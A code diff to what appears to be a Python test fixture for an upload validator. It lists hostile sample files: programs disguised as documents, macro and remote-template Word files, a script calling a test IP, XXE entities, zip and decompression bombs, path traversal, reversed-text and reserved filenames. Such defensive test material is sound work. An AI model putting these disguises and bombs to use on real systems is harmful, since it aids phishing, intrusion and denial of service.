@@ -251,90 +251,100 @@ OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
 PROGRAM = b"MZ\x90\0" + bytes(2000)
 
 
+#: What is wrong with each file, the name it comes under, and how it is made: whoever asks for
+#: no more than the names, as every worker does while it collects, packs no bombs.
+HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
+    "empty": ("advice.pdf", lambda: b""),
+    "a program named as a PDF": ("advice.pdf", lambda: PROGRAM),
+    "a program by name": ("advice.pdf.exe", lambda: PROGRAM),
+    "a program named as text": ("notes.txt", lambda: PROGRAM),
+    "a Linux program named as a picture": ("photo.png", lambda: b"\x7fELF" + bytes(500)),
+    "a script": ("advice.js", lambda: b"alert(1)"),
+    "a shortcut": ("advice.pdf.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(90)),
+    "a web page": ("advice.html", lambda: b"<script>fetch('http://203.0.113.9')</script>"),
+    "an old Word file": ("advice.doc", lambda: OLE),
+    "an old Word file named as a new one": ("advice.docx", lambda: OLE),
+    "an Outlook message": ("message.msg", lambda: OLE),
+    "rich text": ("advice.rtf", lambda: b"{\\rtf1\\objdata 00}"),
+    "rich text named as Word": ("advice.docx", lambda: b"{\\rtf1\\objdata 00}"),
+    "a macro document by name": ("advice.docm", lambda: a_docx(types=MACRO_WORD)),
+    "a macro document renamed": ("advice.docx", lambda: a_docx(types=MACRO_WORD)),
+    "macros in a Word document": ("advice.docx", lambda: a_docx(more={"word/vbaProject.bin": OLE})),
+    "macros in another case": ("advice.docx", lambda: a_docx(more={"word/VBAPROJECT.BIN": OLE})),
+    "an embedded object": (
+        "advice.docx", lambda: a_docx(more={"word/embeddings/oleObject1.bin": OLE})
+    ),
+    "an active control": ("advice.docx", lambda: a_docx(more={"word/activeX/activeX1.bin": OLE})),
+    "a template from a server": (
+        "advice.docx", lambda: a_linked_docx("attachedTemplate", "http://203.0.113.9/t.dotm")
+    ),
+    "a picture from a share": ("advice.docx", lambda: a_linked_docx("image", "file://203.0.113.9/s/x.png")),
+    "an object from a server": (
+        "advice.docx", lambda: a_linked_docx("oleObject", "mhtml:http://203.0.113.9/x!")
+    ),
+    "an entity bomb": ("advice.docx", _an_entity_bomb),
+    "an outside entity": ("advice.docx", _an_outside_entity),
+    "a zip bomb": ("advice.docx", lambda: a_docx(more={"word/media/a.bin": bytes(250_000_000)})),
+    "a bomb with lying sizes": ("advice.docx", _lying_sizes),
+    "a bomb of text": (
+        "advice.docx", lambda: a_docx("<w:p><w:r><w:t>" + "ha" * 30_000_000 + "</w:t></w:r></w:p>")
+    ),
+    "a bomb of depth": ("advice.docx", lambda: a_docx(_deep(60_000))),
+    "five thousand parts": ("advice.docx", _many_parts),
+    "two parts of one name": ("advice.docx", _twin_parts),
+    "a part outside the file": ("advice.docx", lambda: a_zip({
+        "[Content_Types].xml": CONTENT_TYPES % WORD,
+        "word/document.xml": b"<x/>",
+        "../../start-up/evil.txt": b"x",
+    })),
+    "a part that says it is locked": ("advice.docx", _locked_part),
+    "a Word document that is no XML": ("advice.docx", lambda: a_zip({
+        "[Content_Types].xml": CONTENT_TYPES % WORD, "word/document.xml": b"\0\1\2 not <xml",
+    })),
+    "a bare zip named as Word": ("advice.docx", lambda: a_zip({"evil.exe": PROGRAM})),
+    "a cut zip": ("advice.docx", lambda: a_docx()[:300]),
+    "a PDF that runs a script": ("advice.pdf", lambda: a_pdf(_script)),
+    "a PDF that starts a program": ("advice.pdf", lambda: a_pdf(_launch)),
+    "a PDF with a script by name": ("advice.pdf", lambda: a_pdf(_named_script)),
+    "a PDF with a file inside": ("advice.pdf", lambda: a_pdf(_inside)),
+    "a PDF with an enormous page": ("advice.pdf", lambda: a_pdf(_huge_page)),
+    "a PDF whose pages go in a circle": ("advice.pdf", lambda: a_pdf(_page_tree_in_a_circle)),
+    "a PDF with a picture bomb": ("advice.pdf", lambda: a_pdf(_stream_bomb)),
+    "a PDF that draws without end": ("advice.pdf", lambda: a_pdf(_endless_drawing)),
+    "a locked PDF": ("advice.pdf", a_locked_pdf),
+    "a PDF cut short": ("advice.pdf", lambda: a_pdf()[:400]),
+    "a PDF of nonsense": ("advice.pdf", lambda: b"%PDF-1.7\n" + b"obj <<" * 5_000 + b"\n%%EOF"),
+    "a PDF that is a zip as well": (
+        "advice.pdf", lambda: a_pdf() + a_zip({"evil.exe": PROGRAM}) + b"%%EOF"
+    ),
+    "a picture of 944 million dots": ("photo.png", lambda: a_png_of(118_000, 8_000)),
+    "a picture whose header lies": ("photo.png", lambda: a_png_of(10_000, 4_000).replace(
+        struct.pack(">II", 10_000, 4_000), struct.pack(">II", 20_000, 2_000)
+    )),
+    "a picture cut short": ("photo.jpg", lambda: a_picture("JPEG", (900, 900))[:2_000]),
+    "a picture with a zip behind it": (
+        "photo.png", lambda: a_picture() + a_zip({"evil.exe": PROGRAM})
+    ),
+    "a picture with a web page behind it": (
+        "photo.jpg", lambda: a_picture("JPEG") + b"<script>1</script>"
+    ),
+    "a GIF named as a PNG": ("photo.png", lambda: b"GIF89a" + bytes(100)),
+    "an SVG named as a PNG": ("photo.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
+    "an SVG": ("photo.svg", lambda: b"<svg/>"),
+    "a name read backwards": ("advice\u202efdp.exe", lambda: PROGRAM),
+    "a name read backwards that ends well": ("exe.\u202ecod\u202c.pdf", a_pdf),
+    "a name with a control character": ("advice\x07.pdf", a_pdf),
+    "a reserved name": ("CON.pdf", a_pdf),
+    "a reserved name with more": ("com1.report.pdf", a_pdf),
+    "a hidden stream": ("advice.txt:evil.exe", lambda: PROGRAM),
+    "no name at all": (".pdf", a_pdf),
+    "a name of four hundred letters": ("a" * 400 + ".pdf", a_pdf),
+    "a web page named as text": ("notes.txt", lambda: b"<img src='file://203.0.113.9/s/x.png'>"),
+}  # fmt: skip
+
+
 @cache
-def hostile_files() -> dict[str, tuple[str, bytes]]:
-    """What is wrong with it, the name it comes under, and its bytes."""
-    return {
-        "empty": ("advice.pdf", b""),
-        "a program named as a PDF": ("advice.pdf", PROGRAM),
-        "a program by name": ("advice.pdf.exe", PROGRAM),
-        "a program named as text": ("notes.txt", PROGRAM),
-        "a Linux program named as a picture": ("photo.png", b"\x7fELF" + bytes(500)),
-        "a script": ("advice.js", b"alert(1)"),
-        "a shortcut": ("advice.pdf.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(90)),
-        "a web page": ("advice.html", b"<script>fetch('http://203.0.113.9')</script>"),
-        "an old Word file": ("advice.doc", OLE),
-        "an old Word file named as a new one": ("advice.docx", OLE),
-        "an Outlook message": ("message.msg", OLE),
-        "rich text": ("advice.rtf", b"{\\rtf1\\objdata 00}"),
-        "rich text named as Word": ("advice.docx", b"{\\rtf1\\objdata 00}"),
-        "a macro document by name": ("advice.docm", a_docx(types=MACRO_WORD)),
-        "a macro document renamed": ("advice.docx", a_docx(types=MACRO_WORD)),
-        "macros in a Word document": ("advice.docx", a_docx(more={"word/vbaProject.bin": OLE})),
-        "macros in another case": ("advice.docx", a_docx(more={"word/VBAPROJECT.BIN": OLE})),
-        "an embedded object": ("advice.docx", a_docx(more={"word/embeddings/oleObject1.bin": OLE})),
-        "an active control": ("advice.docx", a_docx(more={"word/activeX/activeX1.bin": OLE})),
-        "a template from a server": (
-            "advice.docx", a_linked_docx("attachedTemplate", "http://203.0.113.9/t.dotm")
-        ),
-        "a picture from a share": ("advice.docx", a_linked_docx("image", "file://203.0.113.9/s/x.png")),
-        "an object from a server": (
-            "advice.docx", a_linked_docx("oleObject", "mhtml:http://203.0.113.9/x!")
-        ),
-        "an entity bomb": ("advice.docx", _an_entity_bomb()),
-        "an outside entity": ("advice.docx", _an_outside_entity()),
-        "a zip bomb": ("advice.docx", a_docx(more={"word/media/a.bin": bytes(250_000_000)})),
-        "a bomb with lying sizes": ("advice.docx", _lying_sizes()),
-        "a bomb of text": (
-            "advice.docx", a_docx("<w:p><w:r><w:t>" + "ha" * 30_000_000 + "</w:t></w:r></w:p>")
-        ),
-        "a bomb of depth": ("advice.docx", a_docx(_deep(60_000))),
-        "five thousand parts": ("advice.docx", _many_parts()),
-        "two parts of one name": ("advice.docx", _twin_parts()),
-        "a part outside the file": ("advice.docx", a_zip({
-            "[Content_Types].xml": CONTENT_TYPES % WORD,
-            "word/document.xml": b"<x/>",
-            "../../start-up/evil.txt": b"x",
-        })),
-        "a part that says it is locked": ("advice.docx", _locked_part()),
-        "a Word document that is no XML": ("advice.docx", a_zip({
-            "[Content_Types].xml": CONTENT_TYPES % WORD, "word/document.xml": b"\0\1\2 not <xml",
-        })),
-        "a bare zip named as Word": ("advice.docx", a_zip({"evil.exe": PROGRAM})),
-        "a cut zip": ("advice.docx", a_docx()[:300]),
-        "a PDF that runs a script": ("advice.pdf", a_pdf(_script)),
-        "a PDF that starts a program": ("advice.pdf", a_pdf(_launch)),
-        "a PDF with a script by name": ("advice.pdf", a_pdf(_named_script)),
-        "a PDF with a file inside": ("advice.pdf", a_pdf(_inside)),
-        "a PDF with an enormous page": ("advice.pdf", a_pdf(_huge_page)),
-        "a PDF whose pages go in a circle": ("advice.pdf", a_pdf(_page_tree_in_a_circle)),
-        "a PDF with a picture bomb": ("advice.pdf", a_pdf(_stream_bomb)),
-        "a PDF that draws without end": ("advice.pdf", a_pdf(_endless_drawing)),
-        "a locked PDF": ("advice.pdf", a_locked_pdf()),
-        "a PDF cut short": ("advice.pdf", a_pdf()[:400]),
-        "a PDF of nonsense": ("advice.pdf", b"%PDF-1.7\n" + b"obj <<" * 5_000 + b"\n%%EOF"),
-        "a PDF that is a zip as well": (
-            "advice.pdf", a_pdf() + a_zip({"evil.exe": PROGRAM}) + b"%%EOF"
-        ),
-        "a picture of 944 million dots": ("photo.png", a_png_of(118_000, 8_000)),
-        "a picture whose header lies": ("photo.png", a_png_of(10_000, 4_000).replace(
-            struct.pack(">II", 10_000, 4_000), struct.pack(">II", 20_000, 2_000)
-        )),
-        "a picture cut short": ("photo.jpg", a_picture("JPEG", (900, 900))[:2_000]),
-        "a picture with a zip behind it": ("photo.png", a_picture() + a_zip({"evil.exe": PROGRAM})),
-        "a picture with a web page behind it": (
-            "photo.jpg", a_picture("JPEG") + b"<script>1</script>"
-        ),
-        "a GIF named as a PNG": ("photo.png", b"GIF89a" + bytes(100)),
-        "an SVG named as a PNG": ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
-        "an SVG": ("photo.svg", b"<svg/>"),
-        "a name read backwards": ("advice\u202efdp.exe", PROGRAM),
-        "a name read backwards that ends well": ("exe.\u202ecod\u202c.pdf", a_pdf()),
-        "a name with a control character": ("advice\x07.pdf", a_pdf()),
-        "a reserved name": ("CON.pdf", a_pdf()),
-        "a reserved name with more": ("com1.report.pdf", a_pdf()),
-        "a hidden stream": ("advice.txt:evil.exe", PROGRAM),
-        "no name at all": (".pdf", a_pdf()),
-        "a name of four hundred letters": ("a" * 400 + ".pdf", a_pdf()),
-        "a web page named as text": ("notes.txt", b"<img src='file://203.0.113.9/s/x.png'>"),
-    }  # fmt: skip
+def hostile_file(fault: str) -> tuple[str, bytes]:
+    """The name that one of them comes under, and its bytes."""
+    name, made = HOSTILE[fault]
+    return name, made()
